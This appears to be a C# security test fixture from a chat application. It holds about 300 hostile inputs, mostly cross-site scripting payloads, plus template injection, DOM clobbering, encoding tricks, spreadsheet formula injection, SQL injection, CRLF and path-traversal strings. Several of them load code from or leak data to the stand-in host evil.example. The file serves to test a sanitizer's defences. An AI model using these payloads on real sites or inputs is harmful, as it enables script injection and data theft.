namespace Chat.Tests.Security;

/// <summary>Three hundred ways to make a text run. Each calls <c>pwn()</c>, or one of the dialogs, if it ever gets that far.</summary>
internal static class HostilePayloads
{
    private static readonly string[] Tags =
    [
        "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT>", "<script >pwn()</script >", "<script/x>pwn()</script>", "<script src=data:,pwn()></script>", "<script src=//evil.example/x.js></script>",
        "<script type=module>pwn()</script>", "<script>/*<!--*/pwn()</script>", "<scr<script>ipt>pwn()</scr</script>ipt>", "</textarea><script>pwn()</script>", "</title><script>pwn()</script>",
        "</style><script>pwn()</script>", "--><script>pwn()</script>", "]]><script>pwn()</script>", "'><script>pwn()</script>", "\"><script>pwn()</script>", "`><script>pwn()</script>", "</script><script>pwn()</script>",
        "<script\x09>pwn()</script>", "<script\x0a>pwn()</script>", "<script\x0c>pwn()</script>", "\u2028<script>pwn()</script>", "<\u0000script>pwn()</script>", "＜script＞pwn()＜/script＞", "<ſcript>pwn()</ſcript>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<template><script>pwn()</script></template>", "<xmp><script>pwn()</script></xmp>", "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>",
        "<iframe src=javascript:parent.pwn()></iframe>", "<iframe src=data:text/html,<script>parent.pwn()</script>></iframe>", "<object data=javascript:pwn()></object>", "<object data=data:text/html,<script>pwn()</script>></object>",
        "<embed src=javascript:pwn()>", "<embed code=//evil.example/x.swf>", "<applet code=pwn></applet>", "<base href=javascript:pwn()//>", "<base href=//evil.example/>", "<link rel=import href=data:text/html,<script>pwn()</script>>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:pwn()\">", "<meta http-equiv=refresh content=0;url=//evil.example>", "<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-",
        "<form action=javascript:pwn()><button>x", "<form><button formaction=javascript:pwn()>x", "<form id=test></form><button form=test formaction=javascript:pwn()>x", "<input type=image src=x onerror=pwn()>", "<isindex action=javascript:pwn()>",
        "<svg><script>pwn()</script></svg>", "<svg><script href=data:,pwn() />", "<svg><script xlink:href=data:,pwn()></script></svg>", "<svg onload=pwn()>", "<svg/onload=pwn()>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
        "<svg><set onbegin=pwn() attributename=x>", "<svg><a xlink:href=javascript:pwn()><text y=20>x</text></a></svg>", "<svg><use href=data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwn()</script></svg>#x>",
        "<svg><foreignObject><iframe src=javascript:pwn()></foreignObject></svg>", "<svg><desc><![CDATA[</desc><script>pwn()</script>]]></svg>", "<svg><style><img src=x onerror=pwn()></style></svg>", "<svg><title><style><img src=x onerror=pwn()>",
        "<math><mtext><img src=x onerror=pwn()></mtext></math>", "<math><mi xlink:href=javascript:pwn()>x</mi></math>", "<math href=javascript:pwn()>x</math>", "<math><annotation-xml encoding=text/html><script>pwn()</script></annotation-xml></math>",
        "<math><mglyph><style><img src=x onerror=pwn()>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>", "<img src=x onerror=pwn()>", "<img/src=x/onerror=pwn()>", "<img src=x:x onerror='pwn()'>", "<img src onerror=pwn()//",
        "<img src=x onerror\x09=pwn()>", "<img src=`x`onerror=pwn()>", "<img \"\"\"><script>pwn()</script>\">", "<image src=x onerror=pwn()>", "<img src=javascript:pwn()>", "<img src=x onerror=&#112;&#119;&#110;&#40;&#41;>", "<img src=x onerror=&#x70;wn()>",
        "<img src=x onerror=\\u0070wn()>", "<img src=x onerror=eval(atob('cHduKCk='))>", "<img src=x onerror=window['p'+'wn']()>", "<img src=x onerror=top.pwn()>", "<img src=x onerror=alert(1)>", "<img src=x onerror=confirm(1)>", "<img src=x onerror=prompt(1)>",
        "<img src=x onerror=import('data:text/javascript,pwn()')>", "<img srcset=x onerror=pwn()>", "<picture><source srcset=x onerror=pwn()><img src=x onerror=pwn()></picture>", "<video><source onerror=pwn()></video>", "<video src=x onerror=pwn()></video>",
        "<video poster=javascript:pwn()></video>", "<audio src=x onerror=pwn()></audio>", "<audio><source src=x onerror=pwn()></audio>", "<track src=x onerror=pwn()>", "<details open ontoggle=pwn()>x</details>", "<dialog open onclose=pwn()></dialog>",
        "<marquee onstart=pwn()>x</marquee>", "<marquee loop=1 width=0 onfinish=pwn()>x</marquee>", "<select autofocus onfocus=pwn()>", "<textarea autofocus onfocus=pwn()>", "<input autofocus onfocus=pwn()>", "<keygen autofocus onfocus=pwn()>",
        "<a href=javascript:pwn()>x</a>", "<a href=\"jav\tascript:pwn()\">x</a>", "<a href=\"\x01javascript:pwn()\">x</a>", "<a href=data:text/html,<script>pwn()</script>>x</a>", "<a id=x tabindex=1 onfocus=pwn()></a>", "<a ping=//evil.example href=#>x</a>",
        "<area href=javascript:pwn()>", "<table background=javascript:pwn()>", "<td background=javascript:pwn()>", "<bgsound src=javascript:pwn()>", "<layer src=javascript:pwn()>", "<xss onpointerrawupdate=pwn() style=position:fixed;inset:0>",
        "<style>@import'javascript:pwn()';</style>", "<style>*{background:url(javascript:pwn())}</style>", "<style>@keyframes x{}</style><xss style=animation-name:x onanimationstart=pwn()>", "<div style=background:url(javascript:pwn())>x</div>",
        "<div style=width:expression(pwn())>x</div>", "<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">x</div>", "<div style=behavior:url(x.htc)>x</div>", "<p style=\"position:fixed;inset:0;z-index:9999\">over everything</p>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>", "<xss style=transition:outline+1s ontransitionend=pwn() tabindex=1>",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "java\nscript:pwn()", "java\rscript:pwn()", "\u0001javascript:pwn()", " javascript:pwn()", "javascript&colon;pwn()", "javascript&#58;pwn()", "javascript\u003Apwn()", "javascript://%0apwn()",
        "javascript:/*https://shop.example*/pwn()", "javascript://shop.example/%0Apwn()", "javascript:void(pwn())", "javascript:javascript:pwn()", "vbscript:pwn()", "livescript:pwn()", "data:text/html,<script>pwn()</script>", "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=pwn()>", "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwn()</x:script>", "view-source:javascript:pwn()", "feed:javascript:pwn()", "jar:javascript:pwn()!/", "blob:javascript:pwn()", "filesystem:javascript:pwn()",
        "//evil.example/x.js", "\\\\evil.example\\x", "https://shop.example@evil.example/", "https://shop.example\\@evil.example/", "https://shop.example/\"onmouseover=pwn()//", "https://shop.example/'onmouseover=pwn()//", "https://shop.example/<script>pwn()</script>",
        "https://shop.example/\u202Egpj.exe", "https://shop.example/#\"><img src=x onerror=pwn()>", "http://[::1]/\"onclick=pwn() x=\"", "mailto:a@b.example?body=<script>pwn()</script>", "mailto:\"onfocus=pwn() autofocus x=\"@b.example", "www.shop.example/\"onclick=pwn()", "ftp://x/javascript:pwn()",
        "https://shop.example/javascript:pwn()", "tel:javascript:pwn()", "about:blank#<script>pwn()</script>", "x:javascript:pwn()", "[x](javascript:pwn())", "[x](<javascript:pwn()>)", "![x](x\"onerror=\"pwn())", "[x]: javascript:pwn()", "<javascript:pwn()>", "[a](j a v a s c r i p t:pwn())",
    ];

    private static readonly string[] Templates =
    [
        "{{pwn()}}", "{{constructor.constructor('pwn()')()}}", "{{$on.constructor('pwn()')()}}", "{{7*7}}", "${pwn()}", "#{pwn()}", "<%= pwn() %>", "${{pwn()}}", "@(pwn())", "@{pwn();}", "@code{ void x(){} }", "*{pwn()}", "{%import os%}{{os}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=pwn()')}}",
        "<div v-html=\"'<img src=x onerror=pwn()>'\">x</div>", "<div ng-app>{{constructor.constructor('pwn()')()}}</div>", "<div x-data x-init=pwn()>x</div>", "<div hx-on:load=pwn()>x</div>", "<div data-bind=\"html:pwn()\">x</div>", "{visitor.name}{agent.name|pwn()}",
        "`${pwn()}`", "```<script>pwn()</script>```", "`<img src=x onerror=pwn()>`", "**<script>pwn()</script>**", "> <script>pwn()</script>", "\n    <script>pwn()</script>", "| <img src=x onerror=pwn()> |", "<!--><img src=x onerror=pwn()>-->", "<!--[if IE]><script>pwn()</script><![endif]-->", "<?xml version=1?><script>pwn()</script>",
        "<!--Blazor:{\"type\":\"server\",\"prerenderId\":\"x\",\"descriptor\":\"x\"}-->", "<!--bl:1-->", "<blazor-ssr><template blazor-component-id=1><script>pwn()</script></template></blazor-ssr>", "<blazor-ssr-end>", "<persist-component-state>",
        "<img id=chatDesk name=chatDesk>", "<form id=Blazor><input id=start name=start></form>", "<a id=chatTheme></a><a id=chatTheme name=isDark href=x:1></a>", "<iframe name=trustedTypes></iframe>", "<img name=getElementById>", "<form name=body><input name=firstChild>", "<a id=__proto__ href=x>", "__proto__", "constructor", "toString",
        "\u202Enwp<script>", "\u2066<b>\u2069", "\uFEFF<script>pwn()</script>", "\uD83D\uDE00<script>pwn()</script>", "a\u0300\u0301\u0302\u0303\u0304\u0305<img src=x onerror=pwn()>", "%3Cscript%3Epwn()%3C/script%3E", "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;", "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
        "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "+ADw-script+AD4-pwn()+ADw-/script+AD4-", "¼script¾pwn()¼/script¾", "%C0%BCscript%C0%BEpwn()", "';pwn();//", "\";pwn();//", "\\';pwn();//", "');pwn();//", "</script>';pwn()//", "\u2028pwn()\u2029", "=cmd|'/c calc'!A1", "=HYPERLINK(\"javascript:pwn()\")", "@SUM(1)*pwn()",
        "' OR 1=1 --", "\r\nSet-Cookie: x=1\r\n\r\n<script>pwn()</script>", "%0d%0aX: <script>pwn()</script>", "../../../etc/passwd<script>pwn()</script>", "x.svg\"onload=\"pwn()", "a.html\u0000.png",
    ];

    /// <summary>Events that fire by themselves, or as soon as somebody looks.</summary>
    private static readonly string[] Events =
    [
        "onload", "onerror", "onfocus", "onblur", "onmouseover", "onmouseenter", "onmousemove", "onpointerover", "onpointerenter", "onpointermove", "onwheel", "onscroll", "onclick", "onkeydown", "oninput", "onbeforeinput", "onanimationstart", "onanimationend", "ontransitionrun",
        "ontransitionend", "ontoggle", "onbeforetoggle", "oncanplay", "onloadstart", "onloadedmetadata", "onresize", "onselectionchange", "onselectstart", "onfocusin", "onfocusout", "oncontentvisibilityautostatechange", "onsecuritypolicyviolation", "onpageshow", "onhashchange", "onmessage", "onunhandledrejection",
    ];

    /// <summary>All of them, and no other count than is promised.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Tags.Concat(Addresses).Concat(Templates)
            .Concat(Events.Select(e => $"<div tabindex=0 autofocus style=\"animation:x 1ms;transition:all 1ms\" {e}=pwn()>x</div>"))
            .Concat(Events.Select(e => $"\" {e}=pwn() autofocus tabindex=0 x=\""))
            .Take(Count),
    ];

    public const int Count = 300;
}
